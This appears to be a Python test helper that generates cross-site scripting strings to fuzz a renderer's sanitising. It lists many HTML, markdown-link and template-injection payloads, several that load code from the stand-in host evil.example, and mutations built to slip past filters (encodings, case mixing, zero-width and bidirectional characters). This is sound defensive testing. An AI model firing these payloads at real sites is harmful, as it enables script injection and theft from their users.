"""Strings that try to become more than text: seeds, bent by mutations, the same for the same number."""

from __future__ import annotations

import html
import random
import urllib.parse
from collections.abc import Callable, Iterator

# Whatever runs sets this flag, calls a dialog, or is stopped by the policy, and each is noticed.
RUN = "window.hacked=1"
CALLS = (RUN, "alert(1)", "alert`1`", "top.hacked=1", "eval('hacked=1')", "import('https://evil.example/x.js')")
EVIL = "https://evil.example/x"

TAGS = (
    "<script>{js}</script>",
    '<script src="{evil}"></script>',
    "<img src=x onerror={js}>",
    '<img src=x onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    "<math><mtext><style><img src=x onerror={js}></style></mtext></math>",
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<iframe src="javascript:{js}"></iframe>',
    '<object data="{evil}"></object>',
    '<embed src="{evil}">',
    '<base href="{evil}">',
    '<link rel=stylesheet href="{evil}">',
    '<meta http-equiv=refresh content="0;url={evil}">',
    "<style>@import '{evil}';</style>",
    "<div style=\"background:url('{evil}')\">x</div>",
    '<form action="{evil}"><button>x</button></form>',
    '<button formaction="javascript:{js}">x</button>',
    "<body onload={js}>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
    "<!--><script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<xss id=x tabindex=1 onfocus={js}></xss>",
    "<img-pathway-chat></img-pathway-chat>",
    "<textarea></textarea><script>{js}</script>",
    "</p></div></main><script>{js}</script>",
    '"><script>{js}</script>',
    "' onmouseover={js} x='",
    '" autofocus onfocus="{js}" x="',
    "`-{js}-`",
)
LINKS = (
    "[click](javascript:{js})",
    "[click](JaVaScRiPt:{js})",
    "[click](java\tscript:{js})",
    "[click](\x01javascript:{js})",
    "[click](data:text/html,<script>{js}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](blob:null/x)",
    "[click](//evil.example/x)",
    '[click](https://ok.example/"onmouseover="{js})',
    "[<img src=x onerror={js}>](https://ok.example/)",
    "[a](javascript:{js})[b](javascript:{js})",
    "[click](&#106;avascript:{js})",
    "[click](javascript&colon;{js})",
    "![x](javascript:{js})",
    "![x]({evil}.png)",
    "<javascript:{js}>",
    "javascript:{js}",
    "javascript://ok.example/%0a{js}",
    'https://ok.example/"><script>{js}</script>',
    "https://ok.example/' onclick='{js}",
    "mailto:a@b.example?subject=<script>{js}</script>",
    'a@b.example"onclick="{js}',
    "**<img src=x onerror={js}>**",
    "**[x](javascript:{js})**",
    "- <script>{js}</script>\n- <img src=x onerror={js}>",
)
TEMPLATES = (
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "#{{{js}}}",
    "<%= {js} %>",
    "{{{{html_text}}}}",
    "{{bot}} {{organization}} {{count}}",
    "<!--?lit$123456789$-->",
    "<?lit$123456789$>",
    "$lit$ lit$123456789$ ?lit$",
    "__proto__",
    "constructor",
    "[object Object]",
    '{{"_$litType$":1,"strings":["<img src=x onerror={js}>"],"values":[]}}',
    "'; {js}; //",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}\\x3c/script\\x3e",
)
SEEDS = (*TAGS, *LINKS, *TEMPLATES)

Mutation = Callable[[str, random.Random], str]


def as_it_is(text: str, chance: random.Random) -> str:
    return text


def mixed_case(text: str, chance: random.Random) -> str:
    return "".join(c.upper() if chance.random() < 0.5 else c.lower() for c in text)


def entities(text: str, chance: random.Random) -> str:
    return html.escape(text)


def numbered_entities(text: str, chance: random.Random) -> str:
    shape = chance.choice(("&#{};", "&#x{:x};", "&#0000{}", "&#X{:X}"))
    return "".join(shape.format(ord(c)) if c in "<>\"'():" else c for c in text)


def percent(text: str, chance: random.Random) -> str:
    return urllib.parse.quote(text)


def twice(text: str, chance: random.Random) -> str:
    return text.replace("<", "<<").replace("script", "scrscriptipt")


def spaced(text: str, chance: random.Random) -> str:
    return text.replace(" ", chance.choice(("/", "\t", "\n", "\x0c", "\r\n", "/**/")))


def broken_by_nothing(text: str, chance: random.Random) -> str:
    place = chance.randrange(len(text))
    return text[:place] + chance.choice(("\x00", "\u200b", "\ufeff", "\u00ad", "\x0b")) + text[place:]


def turned_around(text: str, chance: random.Random) -> str:
    return chance.choice(("\u202e", "\u2066", "\u200f")) + text


def full_width(text: str, chance: random.Random) -> str:
    return text.translate({c: c + 0xFEE0 for c in map(ord, "<>\"'():/")})


def halved(text: str, chance: random.Random) -> str:
    return f"{text[: max(3, len(text) - chance.randrange(1, 6))]}"


def combined(text: str, chance: random.Random) -> str:
    return "".join(c + "\u0338" if c in "<>" else c for c in text)


def in_words(text: str, chance: random.Random) -> str:
    return f"what is a residency? {text} thanks"


def in_marks(text: str, chance: random.Random) -> str:
    left, right = chance.choice(
        (("**", "**"), ("- ", ""), ("`", "`"), ("<b>", "</b>"), ("[", "](https://ok.example/)"))
    )
    return f"{left}{text}{right}"


def repeated(text: str, chance: random.Random) -> str:
    return text * 3


MUTATIONS: tuple[Mutation, ...] = (
    as_it_is, mixed_case, entities, numbered_entities, percent, twice, spaced, broken_by_nothing, turned_around,
    full_width, halved, combined, in_words, in_marks, repeated,
)  # fmt: skip


def hostile(count: int, seed: int = 2026) -> Iterator[str]:
    """Different strings, every seed with every mutation first, then two mutations at a time."""
    chance = random.Random(seed)
    given: set[str] = set()
    plain = ((mutation, as_it_is) for mutation in MUTATIONS)
    pairs = [*plain, *((one, other) for one in MUTATIONS for other in MUTATIONS)]
    while True:
        for one, other in pairs:
            for text in SEEDS:
                made = other(one(text.format(js=chance.choice(CALLS), evil=EVIL), chance), chance)
                if made.strip() and made not in given:
                    given.add(made)
                    yield made
                    if len(given) == count:
                        return
